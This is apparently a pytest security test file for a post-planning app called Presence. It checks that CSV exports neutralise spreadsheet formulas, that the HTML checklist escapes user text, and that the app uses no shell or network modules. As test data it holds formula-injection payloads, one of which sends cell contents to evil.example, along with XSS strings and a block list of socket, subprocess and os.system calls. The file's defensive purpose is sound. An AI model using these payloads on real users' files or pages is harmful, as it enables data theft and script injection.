"""What Presence writes cannot run: no spreadsheet formulas, no HTML; and it never talks
to the network or a shell."""

from __future__ import annotations

import ast
import csv
import io
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.items import Activity, Post, PostKind, Slot
from app.domain.platforms import Platform
from app.domain.zones import get_zone
from app.exchange.csv_format import neutralise, restore
from app.storage.repository import Repository
from tests.reliability.support import HERE, ROOT, child_env, count_inputs, run_cli

BERLIN = get_zone("Europe/Berlin")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@settings(max_examples=500)
@given(st.text(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "\n"]), max_size=8)
       | st.text(max_size=20))
def test_neutralised_cells_never_start_a_formula_and_restore_exactly(cell: str) -> None:
    count_inputs()
    safe = neutralise(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore(safe) == cell


def _hostile_week(db: Path) -> None:
    at = datetime(2026, 11, 24, 9, 0, tzinfo=BERLIN)
    with Repository.open(db) as repo:
        repo.set_setting("zone", "Europe/Berlin")
        for n, text in enumerate(DANGEROUS):
            repo.add(Post("x", at.replace(hour=8 + n), PostKind.OWN, text=text, notes=text,
                          tags=(text.strip(),), account=text.strip() or None))
        repo.add(Slot("x", at.replace(hour=20), 30, Activity.REPLY, notes="=1+1"))


def test_csv_export_neutralises_every_formula_and_import_gives_it_back(tmp_path: Path) -> None:
    db = tmp_path / "presence.db"
    _hostile_week(db)
    out = tmp_path / "week.csv"
    result = run_cli("export", "--week", "2026-W48", "--db", str(db), "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(DANGEROUS) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    texts = [row[10] for row in rows[1:-1]]
    assert texts == ["'" + t for t in DANGEROUS]  # one ' more, even before an existing one
    again = run_cli("import", str(out), "--db", str(db))
    assert again.returncode == 0, again.stderr
    assert f"({len(DANGEROUS) + 1} already planned)" in again.stdout  # the same items, restored


@pytest.mark.parametrize("fmt", ["hootsuite", "buffer"])
def test_scheduler_files_neutralise_formulas(fmt: str, tmp_path: Path) -> None:
    db = tmp_path / "presence.db"
    _hostile_week(db)
    out = tmp_path / "files"
    out.mkdir()
    result = run_cli("export", "--week", "2026-W48", "--format", fmt, "--db", str(db), "-o", str(out))
    assert result.returncode == 0, result.stderr
    files = list(out.iterdir())
    assert files
    for path in files:
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)


MARKUP = [
    "<script>alert('post')</script>",
    "\"><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "&lt;already escaped&gt; & <b>bold</b>",
]


def test_checklist_html_escapes_everything_the_user_typed(tmp_path: Path) -> None:
    db = tmp_path / "presence.db"
    at = datetime(2026, 11, 24, 9, 0, tzinfo=BERLIN)
    with Repository.open(db) as repo:
        repo.set_setting("zone", "Europe/Berlin")
        repo.save_platform(Platform("evil", "<script>alert('platform')</script>", 500, 5, "#ff0000"))
        for n, text in enumerate(MARKUP):
            repo.add(Post("evil", at.replace(hour=8 + n), PostKind.PROMO, text=text,
                          link="https://example.com/<script>", notes=text, account=text))
        repo.add(Slot("evil", at.replace(hour=18), 30, Activity.REPLY, notes=MARKUP[0]))
    out = tmp_path / "week.html"
    result = run_cli("checklist", "--week", "2026-W48", "--db", str(db), "-o", str(out))
    assert result.returncode == 0, result.stderr
    page = out.read_text(encoding="utf-8")
    lowered = page.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<a " not in lowered
    assert "javascript:" not in lowered or "&quot;javascript:" in lowered
    assert "<b>bold" not in page
    assert "&lt;script&gt;alert(&#x27;platform&#x27;)&lt;/script&gt;" in page  # shown, not run
    assert "&lt;script&gt;" in page


# -- no shell, no network --------------------------------------------------------------

FORBIDDEN_MODULES = {
    "subprocess", "socket", "socketserver", "ssl", "urllib", "http", "ftplib", "smtplib",
    "poplib", "imaplib", "telnetlib", "xmlrpc", "asyncio", "requests", "httpx", "aiohttp",
    "webbrowser", "pty", "PySide6.QtNetwork", "PySide6.QtWebEngineCore", "PySide6.QtWebSockets",
}
ALLOWED = {"urllib.parse"}  # string functions only: splitting a link into its parts
FORBIDDEN_CALLS = {("os", "system"), ("os", "popen"), ("os", "spawnl"), ("os", "spawnv"),
                   ("os", "execv"), ("os", "execvp"), ("os", "posix_spawn"), ("os", "fork")}


def _imports_and_calls(path: Path, root: Path = ROOT) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        names: list[str] = []
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = [node.module] + [f"{node.module}.{alias.name}" for alias in node.names]
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            if node.func.id == "__import__":  # dynamic imports would dodge this test
                names = ["__import__"]
        elif (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
              and (node.value.id, node.attr) in FORBIDDEN_CALLS):
            found.append(f"{path.relative_to(root)}:{node.lineno}: os.{node.attr}")
        for name in names:
            if name in ALLOWED or name.startswith("urllib.parse."):
                continue
            if name == "__import__" or any(
                name == bad or name.startswith(bad + ".") for bad in FORBIDDEN_MODULES
            ):
                found.append(f"{path.relative_to(root)}:{node.lineno}: {name}")
    return found


# Calendar sync's client is the one module that speaks to a server, and only when the user
# asks to sync (`presence sync caldav`, File > Sync to calendar): see README, Calendar sync.
NETWORK_MODULE = Path("app/sync/webdav.py")


def test_the_app_source_uses_no_shell_and_no_network_module() -> None:
    sources = sorted(p for p in (ROOT / "app").rglob("*.py") if p.relative_to(ROOT) != NETWORK_MODULE)
    assert len(sources) > 20
    found = [hit for path in sources for hit in _imports_and_calls(path)]
    assert found == []
    # and that one module uses the HTTP client only: no shell, no other way out
    assert {hit.split(": ", 1)[1] for hit in _imports_and_calls(ROOT / NETWORK_MODULE)} == {"requests", "ssl"}


def test_the_scan_would_notice(tmp_path: Path) -> None:
    sample = tmp_path / "sample.py"
    sample.write_text("import subprocess\nfrom urllib.request import urlopen\nimport os\n"
                      "from urllib.parse import urlsplit\nos.system('x')\n", encoding="utf-8")
    assert _imports_and_calls(sample, tmp_path) == [
        "sample.py:1: subprocess", "sample.py:2: urllib.request",
        "sample.py:2: urllib.request.urlopen", "sample.py:5: os.system",
    ]


def _no_network_run(args: list[str], tmp_path: Path, **env: str) -> dict[str, object]:
    result = subprocess.run(
        [sys.executable, str(HERE / "no_network_child.py"), *args],
        cwd=ROOT, env=child_env(QT_QPA_PLATFORM="offscreen", **env), capture_output=True,
        text=True, timeout=120,
    )
    lines = [line for line in result.stdout.splitlines() if line.startswith("{")]
    assert lines, result.stdout + result.stderr
    report = json.loads(lines[-1])
    report["stderr"] = result.stderr
    return report


@pytest.mark.parametrize("command", [
    ["demo", "--week", "2026-W48"],
    ["lint", "--week", "2026-W48"],
    ["export", "--week", "2026-W48", "--format", "ics"],
    ["export", "--week", "2026-W48"],
    ["checklist", "--week", "2026-W48", "-o", "{tmp}/week.pdf"],
    ["restore", "--list"],
])
def test_commands_open_no_port_and_start_no_process(command: list[str], tmp_path: Path) -> None:
    db = tmp_path / "presence.db"
    assert run_cli("demo", "--week", "2026-W48", "--db", str(db)).returncode == 0
    args = [a.replace("{tmp}", str(tmp_path)) for a in command] + ["--db", str(db)]
    report = _no_network_run(args, tmp_path)
    assert report["exit"] in (0, 1), report
    assert report["audit"] == [], report
    assert report["inet_sockets"] == [], report


def test_the_window_opens_no_port_and_starts_no_process(tmp_path: Path) -> None:
    db = tmp_path / "presence.db"
    report = _no_network_run(["--db", str(db)], tmp_path, PRESENCE_SMOKE="1")
    assert report["exit"] == 0, report
    assert report["audit"] == [], report
    assert report["inet_sockets"] == [], report
